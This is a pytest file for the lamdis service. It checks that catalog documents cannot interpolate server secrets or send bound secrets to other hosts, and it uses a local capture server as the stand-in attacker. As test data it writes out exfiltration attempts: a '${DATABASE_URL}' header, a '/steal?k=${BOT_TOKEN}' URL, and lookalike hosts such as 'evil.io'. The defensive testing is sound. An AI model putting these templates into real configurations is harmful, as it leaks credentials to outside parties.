"""Catalog documents read only the variables the operator exposes, and secrets go only to the
hosts they are bound to (issue 16 item 1).

A loopback capture server stands in for the attacker's (or the real bot's) endpoint: it
records every request it receives, so the tests can show what left the server.
"""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer
from lamdis_core.config.env_policy import EnvPolicy, RestrictedEnv
from lamdis_core.config.interpolation import interpolate_env
from lamdis_core.domain.errors import ConfigError, InterpolationError
from lamdis_http.bootstrap import Settings

from tests.http._helpers import start, wait_status
from tests.http.conftest import ORG, TOKEN, MakeService

DB_URL = "postgresql://lamdis:db-password-123@db.internal:5432/lamdis"
BOT_TOKEN = "bot-token-abc-987"
AUTH = {"x-api-token": TOKEN}


class Capture:
    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []
        self.url = ""

    def everything(self) -> str:
        return repr(self.requests)


@pytest.fixture
async def capture() -> AsyncIterator[Capture]:
    seen = Capture()

    async def record(request: web.Request) -> web.Response:
        seen.requests.append(
            {
                "path": request.path_qs,
                "headers": dict(request.headers),
                "body": (await request.read()).decode("utf-8", "replace"),
            }
        )
        return web.json_response({"reply": "Hello, diversification spreads risk", "id": "a1"})

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", record)
    server = TestServer(app, host="127.0.0.1")
    await server.start_server()
    seen.url = str(server.make_url("")).rstrip("/")
    try:
        yield seen
    finally:
        await server.close()


async def _catalog_suite(client: Any, env_doc: dict[str, Any], *, steps: Any = None) -> None:
    """A token holder's own environment, test and suite, posted through the API."""
    resp = await client.post(f"/orgs/{ORG}/environments", json=env_doc, headers=AUTH)
    assert resp.status == 201, await resp.text()
    test = {
        "id": "probe",
        "steps": steps
        or [
            {"type": "message", "role": "user", "content": "hi"},
            {"type": "includes", "includes": ["Hello"]},
        ],
    }
    resp = await client.post(f"/orgs/{ORG}/tests", json=test, headers=AUTH)
    assert resp.status == 201, await resp.text()
    suite = {"id": "probe-suite", "tests": {"includeFiles": ["probe"]}}
    resp = await client.post(f"/orgs/{ORG}/suites", json=suite, headers=AUTH)
    assert resp.status == 201, await resp.text()


async def _run(client: Any, env_id: str) -> dict[str, Any]:
    run_id = await start(
        client, {"suiteId": "probe-suite", "envId": env_id, "orgId": ORG}, headers=AUTH
    )
    return await wait_status(client, run_id, headers=AUTH)


async def test_a_catalog_environment_cannot_read_the_servers_database_url(
    make_service: MakeService, capture: Capture
) -> None:
    """The seed's attack: a header ``${DATABASE_URL}`` and a baseUrl of the attacker's choice."""
    service = await make_service(token=TOKEN, env={"DATABASE_URL": DB_URL})
    doc = {
        "id": "evil",
        "channel": "http_chat",
        "baseUrl": capture.url,
        "headers": {"x-leak": "${DATABASE_URL}"},
    }
    await _catalog_suite(service.client, doc)
    run = await _run(service.client, "evil")
    assert run["status"] == "failed"
    assert "DATABASE_URL" in run["error"]
    assert "never exposed" in run["error"]
    assert "db-password-123" not in capture.everything()
    assert capture.requests == []
    # Nor does the run record carry the value anywhere.
    assert "db-password-123" not in repr(run)


async def test_an_unexposed_variable_is_refused_and_an_exposed_one_is_read(
    make_service: MakeService, capture: Capture
) -> None:
    env = {"TENANT": "acme-tenant", "OTHER": "other-value", "LAMDIS_CATALOG_VARS": "TENANT"}
    service = await make_service(token=TOKEN, env=env)
    doc = {
        "id": "bot",
        "channel": "http_chat",
        "baseUrl": capture.url,
        "headers": {"x-tenant": "${TENANT}"},
    }
    await _catalog_suite(service.client, doc)
    run = await _run(service.client, "bot")
    assert run["status"] == "passed", run
    assert capture.requests[0]["headers"]["x-tenant"] == "acme-tenant"

    resp = await service.client.put(
        f"/orgs/{ORG}/environments/bot",
        json={**doc, "headers": {"x-other": "${OTHER}"}},
        headers=AUTH,
    )
    assert resp.status == 200
    capture.requests.clear()
    run = await _run(service.client, "bot")
    assert run["status"] == "failed"
    assert "OTHER is not exposed to catalog documents" in run["error"]
    assert capture.requests == []


async def test_a_secret_goes_to_its_bound_host(make_service: MakeService, capture: Capture) -> None:
    env = {"BOT_TOKEN": BOT_TOKEN, "LAMDIS_SECRET_HOSTS": "BOT_TOKEN=127.0.0.1"}
    service = await make_service(token=TOKEN, env=env)
    doc = {
        "id": "bot",
        "channel": "http_chat",
        "baseUrl": capture.url,
        "headers": {"authorization": "Bearer ${BOT_TOKEN}"},
    }
    await _catalog_suite(service.client, doc)
    run = await _run(service.client, "bot")
    assert run["status"] == "passed", run
    assert capture.requests[0]["headers"]["Authorization"] == f"Bearer {BOT_TOKEN}"


async def test_a_secret_is_not_sent_to_another_host(
    make_service: MakeService, capture: Capture
) -> None:
    env = {"BOT_TOKEN": BOT_TOKEN, "LAMDIS_SECRET_HOSTS": "BOT_TOKEN=bot.example.com"}
    service = await make_service(token=TOKEN, env=env)
    doc = {
        "id": "bot",
        "channel": "http_chat",
        "baseUrl": capture.url,
        "headers": {"authorization": "Bearer ${BOT_TOKEN}"},
    }
    await _catalog_suite(service.client, doc)
    run = await _run(service.client, "bot")
    assert run["status"] == "failed"
    [item] = run["items"]
    assert item["status"] == "error"
    assert "BOT_TOKEN" in item["error"]
    assert "bot.example.com" in item["error"]
    assert "127.0.0.1" in item["error"]
    assert capture.requests == []
    assert BOT_TOKEN not in repr(run)


async def test_a_secret_is_not_sent_by_a_request_step_to_another_host(
    make_service: MakeService, capture: Capture
) -> None:
    """The requester is guarded too: a request document that puts the secret in its URL."""
    env = {"BOT_TOKEN": BOT_TOKEN, "LAMDIS_SECRET_HOSTS": "BOT_TOKEN=bot.example.com"}
    service = await make_service(token=TOKEN, env=env)
    client = service.client
    requests_doc = {
        "id": "requests/leak",
        "requests": [
            {
                "id": "leak",
                "transport": {
                    "mode": "direct",
                    "http": {
                        "method": "GET",
                        "full_url": capture.url + "/steal?k=${BOT_TOKEN}",
                    },
                },
            }
        ],
    }
    resp = await client.post(f"/orgs/{ORG}/requests", json=requests_doc, headers=AUTH)
    assert resp.status == 201, await resp.text()
    doc = {"id": "plain", "channel": "http_chat", "baseUrl": capture.url}
    steps = [
        {"type": "request", "requestId": "leak"},
        {"type": "message", "role": "user", "content": "hi"},
    ]
    resp = await client.post(f"/orgs/{ORG}/environments", json=doc, headers=AUTH)
    assert resp.status == 201, await resp.text()
    test = {"id": "probe", "imports": {"requests": ["requests/leak"]}, "steps": steps}
    assert (await client.post(f"/orgs/{ORG}/tests", json=test, headers=AUTH)).status == 201
    suite = {"id": "probe-suite", "tests": {"includeFiles": ["probe"]}}
    assert (await client.post(f"/orgs/{ORG}/suites", json=suite, headers=AUTH)).status == 201
    run = await _run(client, "plain")
    [item] = run["items"]
    assert item["status"] == "error", item
    assert "BOT_TOKEN" in item["error"] and "127.0.0.1" in item["error"]
    assert BOT_TOKEN not in capture.everything()


def test_a_catalog_openai_environment_cannot_choose_where_the_server_key_goes() -> None:
    """openai_chat sends the server's OPENAI_API_KEY to env.baseUrl: a document may not set it."""
    from lamdis_core.domain import config as c
    from lamdis_core.domain.convert import default_converter
    from lamdis_http._secret_guard import SecretGuard
    from lamdis_judge_openai import create_target_factory

    env = {"OPENAI_API_KEY": "sk-server-key"}
    factory = SecretGuard(EnvPolicy.from_env(env), env).target_factory(create_target_factory(env))
    assistant = default_converter().structure(
        {"id": "x", "env": {"channel": "openai_chat", "baseUrl": "http://127.0.0.1:9/v1"}},
        c.Assistant,
    )

    async def no_auth() -> dict[str, str]:
        return {}

    with pytest.raises(
        ConfigError, match=re.escape("server's own credentials would be sent to '127.0.0.1'")
    ):
        factory.create(assistant, no_auth, {})


# --- the settings ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "DATABASE_URL",
        "MONGO_URL",
        "LAMDIS_API_TOKEN",
        "LAMDIS_HMAC_SECRET",
        "OPENAI_API_KEY",
        "AWS_SECRET_ACCESS_KEY",
    ],
)
def test_the_servers_own_settings_cannot_be_exposed_even_by_mistake(name: str) -> None:
    with pytest.raises(ConfigError, match=name):
        Settings.from_env({"LAMDIS_CATALOG_VARS": f"TENANT,{name}"})
    with pytest.raises(ConfigError, match=name):
        Settings.from_env({"LAMDIS_SECRET_HOSTS": f"{name}=db.example.com"})


def test_a_prefix_never_reaches_the_servers_settings() -> None:
    policy = EnvPolicy.from_env({"LAMDIS_CATALOG_VAR_PREFIX": "LAMDIS_"})
    view = policy.view({"LAMDIS_API_TOKEN": "tok", "LAMDIS_TENANT": "t1"})
    assert dict(view) == {"LAMDIS_TENANT": "t1"}
    with pytest.raises(InterpolationError, match="LAMDIS_API_TOKEN is one of the server's own"):
        interpolate_env("${LAMDIS_API_TOKEN}", view)
    # Refused even where an unset variable would be empty text.
    with pytest.raises(InterpolationError, match="LAMDIS_API_TOKEN"):
        interpolate_env("${LAMDIS_API_TOKEN}", view, strict=False)


def test_nothing_is_exposed_by_default() -> None:
    view = Settings.from_env({"TENANT": "x"}).catalog_env.view({"TENANT": "x"})
    assert isinstance(view, RestrictedEnv)
    assert "TENANT" not in view
    with pytest.raises(InterpolationError, match="TENANT is not exposed"):
        interpolate_env("${TENANT}", view)


@pytest.mark.parametrize(
    "value",
    ["BOT_TOKEN", "BOT_TOKEN=", "=host", "BOT_TOKEN=https://bot.example.com/x", "bad name=h"],
)
def test_a_malformed_secret_binding_is_a_startup_error_naming_the_setting(value: str) -> None:
    with pytest.raises(ConfigError, match="LAMDIS_SECRET_HOSTS"):
        Settings.from_env({"LAMDIS_SECRET_HOSTS": value})


def test_secret_bindings_match_hosts_and_subdomains() -> None:
    policy = EnvPolicy.from_env({"LAMDIS_SECRET_HOSTS": "K=api.example.com,*.bots.example.net"})
    env = {"K": "s3cret"}
    assert policy.destination_refusal(env, "https://api.example.com/x", ["s3cret"]) is None
    assert policy.destination_refusal(env, "https://a.bots.example.net:8443/", ["s3cret"]) is None
    refusal = policy.destination_refusal(env, "https://api.example.com.evil.io/", ["s3cret"])
    assert refusal is not None and "K" in refusal and "api.example.com.evil.io" in refusal
    assert policy.destination_refusal(env, "https://evil.io/", ["no secret here"]) is None
    assert policy.destination_refusal(env, "https://evil.io/?k=s3cret", []) is not None


# --- configurable channels: the wire check -----------------------------------------------------


async def _templated_service(aiohttp_client: Any, env: dict[str, str], config_dir: Any) -> Any:
    """A service whose http_chat targets are the configurable ones (request templates)."""
    from lamdis_core.offline_judge import OfflineJudge
    from lamdis_core.testing.memory import InMemoryCatalog, InMemoryRunStore
    from lamdis_http.bootstrap import build_app
    from lamdis_http.targets._factory import HttpTargetFactory

    factory = HttpTargetFactory()
    app = build_app(
        Settings.from_env({**env, "LAMDIS_API_TOKEN": TOKEN, "LAMDIS_DRAIN_SECONDS": "0"}),
        store=InMemoryRunStore(),
        catalog=InMemoryCatalog(),
        judge=OfflineJudge(),
        targets={"http_chat": factory},
        poll_seconds=0.05,
    )
    client = await aiohttp_client(app)
    return client, factory


@pytest.mark.parametrize(
    "request_spec",
    [
        # The secret in a header, the URL of the document's choosing (no baseUrl at all).
        {
            "url": "{capture}/chat",
            "headers": {"x-key": "${BOT_TOKEN}"},
            "body": {"m": "{{message}}"},
        },
        # The secret in the body only.
        {"url": "{capture}/chat", "body": {"m": "{{message}}", "key": "${BOT_TOKEN}"}},
    ],
)
async def test_a_templated_channel_cannot_send_a_secret_to_another_host(
    aiohttp_client: Any, capture: Capture, tmp_path: Any, request_spec: dict[str, Any]
) -> None:
    env = {"BOT_TOKEN": BOT_TOKEN, "LAMDIS_SECRET_HOSTS": "BOT_TOKEN=bot.example.com"}
    client, factory = await _templated_service(aiohttp_client, env, tmp_path)
    try:
        spec = {**request_spec, "url": request_spec["url"].replace("{capture}", capture.url)}
        doc = {
            "id": "templated",
            # The base URL names the bound host; request.url replaces it.
            "env": {"channel": "http_chat", "baseUrl": "https://bot.example.com"},
            "request": spec,
            "response": {"reply": "$.reply"},
        }
        await _catalog_suite(client, doc)
        run = await _run(client, "templated")
        [item] = run["items"]
        assert item["status"] == "error", item
        assert "BOT_TOKEN" in item["error"] and "127.0.0.1" in item["error"]
        assert capture.requests == []
    finally:
        await factory.aclose()


async def test_a_templated_channel_sends_a_secret_to_its_bound_host(
    aiohttp_client: Any, capture: Capture, tmp_path: Any
) -> None:
    env = {"BOT_TOKEN": BOT_TOKEN, "LAMDIS_SECRET_HOSTS": "BOT_TOKEN=127.0.0.1"}
    client, factory = await _templated_service(aiohttp_client, env, tmp_path)
    try:
        doc = {
            "id": "templated",
            "env": {"channel": "http_chat", "baseUrl": capture.url},
            "request": {
                "url": capture.url + "/chat",
                "body": {"message": "{{message}}", "key": "${BOT_TOKEN}"},
            },
            "response": {"reply": "$.reply"},
        }
        await _catalog_suite(client, doc)
        run = await _run(client, "templated")
        assert run["status"] == "passed", run
        assert BOT_TOKEN in capture.requests[0]["body"]
    finally:
        await factory.aclose()


async def test_import_warns_about_references_a_catalog_run_will_refuse(tmp_path: Any) -> None:
    """``lamdis import`` into a shared catalog says now what a run would fail on later."""
    import json as _json

    from lamdis_core.service import import_config_tree
    from lamdis_core.testing.memory import InMemoryCatalog
    from structlog.testing import capture_logs

    (tmp_path / "assistants").mkdir()
    (tmp_path / "assistants" / "bot.json").write_text(
        _json.dumps(
            {
                "id": "bot",
                "env": {
                    "channel": "http_chat",
                    "baseUrl": "${BOT_URL}",
                    "headers": {"x-db": "${DATABASE_URL}", "x-key": "${BOT_TOKEN}"},
                },
            }
        )
    )
    env = {
        "BOT_URL": "http://bot",
        "BOT_TOKEN": "t",
        "DATABASE_URL": DB_URL,
        "LAMDIS_CATALOG_VARS": "BOT_URL",
    }
    with capture_logs() as logs:
        await import_config_tree(InMemoryCatalog(), tmp_path, org_id="o", env=env)
    warned = {
        e["variable"]: e["reason"] for e in logs if e["event"] == "catalog.variable_not_exposed"
    }
    assert set(warned) == {"DATABASE_URL", "BOT_TOKEN"}
    assert "never exposed" in warned["DATABASE_URL"]
    assert all(e.get("file") == "assistants/bot.json" for e in logs if "variable" in e)


@pytest.mark.e2e
def test_lamdis_serve_refuses_to_expose_a_server_setting(tmp_path: Any) -> None:
    import os
    import subprocess
    import sys

    env = {**os.environ, "LAMDIS_CATALOG_VARS": "TENANT,LAMDIS_API_TOKEN", "PORT": "0"}
    proc = subprocess.run(
        [sys.executable, "-m", "lamdis_http.cli", "serve"],
        env=env,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 2, proc.stderr
    assert "LAMDIS_CATALOG_VARS" in proc.stderr and "LAMDIS_API_TOKEN" in proc.stderr


async def test_serve_with_the_local_store_warns_about_unexposed_references(
    aiohttp_client: Any, tmp_path: Any
) -> None:
    import json as _json

    from lamdis_http.bootstrap import build_app
    from structlog.testing import capture_logs

    (tmp_path / "assistants").mkdir()
    (tmp_path / "assistants" / "bot.json").write_text(
        _json.dumps({"id": "bot", "env": {"channel": "http_chat", "baseUrl": "${BOT_URL}"}})
    )
    settings = Settings.from_env(
        {"DB_PROVIDER": "local", "LAMDIS_CONFIG_DIR": str(tmp_path), "BOT_URL": "http://b"}
    )
    with capture_logs() as logs:
        await aiohttp_client(build_app(settings, start_worker=False))
    [warning] = [e for e in logs if e["event"] == "catalog.variable_not_exposed"]
    assert warning["variable"] == "BOT_URL" and "LAMDIS_CATALOG_VARS" in warning["reason"]
